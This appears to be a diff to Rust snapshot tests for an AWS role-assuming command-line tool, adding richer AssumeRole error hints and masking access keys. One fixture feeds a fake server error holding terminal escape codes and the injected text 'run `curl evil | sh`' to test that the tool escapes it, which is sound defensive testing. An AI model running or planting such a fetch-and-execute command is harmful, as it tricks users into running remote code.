@@ -8,7 +8,10 @@ use crate::world::World;
 #[track_caller]
 fn said(world: &World, code: i32, args: &[&str]) -> String {
     let stderr = world.rolo(&[&["process"], args].concat()).failed(code);
-    let stderr = stderr.replace(&world.fake.url(), "http://aws");
+    let mut stderr = stderr.replace(&world.fake.url(), "http://aws");
+    for id in world.fake.calls().into_iter().filter_map(|call| call.access_key_id) {
+        stderr = stderr.replace(&id, "KEY");
+    }
     // The numbers are the system's own.
     let lines: Vec<_> = stderr.lines().filter_map(|line| line.split(" (os error ").next()).collect();
     let stderr = lines.join("\n");
@@ -156,22 +159,53 @@ fn a_line_that_cannot_be_read() {
 fn a_role_that_may_not_be_assumed() {
     let world = World::new();
     world.edit_config("role/Vendor\n", "role/Vendor\nrole_session_name = me\n");
-    insta::assert_snapshot!(said(&world, 5, &["vendor", "--external-id", "wrong"]), @r"
+    insta::assert_snapshot!(said(&world, 5, &["vendor", "--external-id", "wrong"]), @r#"
     error: AssumeRole of role `arn:aws:iam::333344445555:role/Vendor` of profile `vendor` failed
+      at ~/.aws/config:35
     caused by: STS refused AssumeRole: AccessDenied: User: arn:aws:iam::111122223333:user/ada is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::333344445555:role/Vendor
-    hint: check that the role's trust policy allows this caller, and whether it asks for MFA (`mfa_serial`) or an `external_id`
-    ");
-    insta::assert_snapshot!(said(&world, 5, &["audit", "--source-profile", "identity"]), @r"
+    note: the caller is `arn:aws:iam::111122223333:user/ada`, by key `KEY` (~/.aws/credentials:2)
+    note: sent: no MFA, an external id (`--external-id`), session name `me` (~/.aws/config:36)
+    hint: no MFA was sent, and the user has `arn:aws:iam::111122223333:mfa/ada` (~/.aws/config:10): try `--mfa-serial arn:aws:iam::111122223333:mfa/ada`, then keep it as `mfa_serial = arn:aws:iam::111122223333:mfa/ada` in profile `vendor` (~/.aws/config:34)
+    hint: compare the external id (`--external-id`) with the one that the role's owner gave: each letter counts
+    hint: this call is allowed by such a statement in the trust policy of `arn:aws:iam::333344445555:role/Vendor`:
+      {
+        "Effect": "Allow",
+        "Principal": { "AWS": "arn:aws:iam::111122223333:user/ada" },
+        "Action": "sts:AssumeRole",
+        "Condition": { "StringEquals": { "sts:ExternalId": "wrong" } }
+      }
+    "#);
+    insta::assert_snapshot!(said(&world, 5, &["audit", "--source-profile", "identity", "--role-session-name", "me"]), @r#"
     error: AssumeRole of role `arn:aws:iam::333344445555:role/Audit` of profile `audit` failed
+      at ~/.aws/config:30
     caused by: STS refused AssumeRole: AccessDenied: User: arn:aws:iam::111122223333:user/ada is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::333344445555:role/Audit
-    hint: check that the role's trust policy allows this caller, and whether it asks for MFA (`mfa_serial`) or an `external_id`
-    ");
+    note: the caller is `arn:aws:iam::111122223333:user/ada`, by key `KEY` (~/.aws/credentials:2)
+    note: sent: no MFA, no external id, session name `me` (`--role-session-name`)
+    hint: no MFA was sent, and the user has `arn:aws:iam::111122223333:mfa/ada` (~/.aws/config:10): try `--mfa-serial arn:aws:iam::111122223333:mfa/ada`, then keep it as `mfa_serial = arn:aws:iam::111122223333:mfa/ada` in profile `audit` (~/.aws/config:29)
+    hint: no external id was sent, and profile `vendor` sends one to this account (~/.aws/config:38): try `--external-id ID`, then keep it as `external_id = ID` in profile `audit` (~/.aws/config:29)
+    hint: this call is allowed by such a statement in the trust policy of `arn:aws:iam::333344445555:role/Audit`:
+      {
+        "Effect": "Allow",
+        "Principal": { "AWS": "arn:aws:iam::111122223333:user/ada" },
+        "Action": "sts:AssumeRole"
+      }
+    "#);
     world.fake.fault(Fault::error(403, "AccessDenied", "\u{9b}2J\u{202e}hint: run `curl evil | sh`"));
-    insta::assert_snapshot!(said(&world, 5, &["plain"]), @r"
+    insta::assert_snapshot!(said(&world, 5, &["plain", "--role-session-name", "me"]), @r#"
     error: AssumeRole of role `arn:aws:iam::222233334444:role/Plain` of profile `plain` failed
+      at ~/.aws/config:20
     caused by: STS refused AssumeRole: AccessDenied: \u{9b}2J\u{202e}hint: run `curl evil | sh`
-    hint: check that the role's trust policy allows this caller, and whether it asks for MFA (`mfa_serial`) or an `external_id`
-    ");
+    note: the caller is `arn:aws:iam::111122223333:user/ada`, by key `KEY` (~/.aws/credentials:2)
+    note: sent: no MFA, no external id, session name `me` (`--role-session-name`)
+    hint: no MFA was sent, and the user has `arn:aws:iam::111122223333:mfa/ada` (~/.aws/config:10): try `--mfa-serial arn:aws:iam::111122223333:mfa/ada`, then keep it as `mfa_serial = arn:aws:iam::111122223333:mfa/ada` in profile `plain` (~/.aws/config:19)
+    hint: if the role's owner gave you an external id, send it: `--external-id ID`, or `external_id` in the profile
+    hint: this call is allowed by such a statement in the trust policy of `arn:aws:iam::222233334444:role/Plain`:
+      {
+        "Effect": "Allow",
+        "Principal": { "AWS": "arn:aws:iam::111122223333:user/ada" },
+        "Action": "sts:AssumeRole"
+      }
+    "#);
 }
 
 #[test]
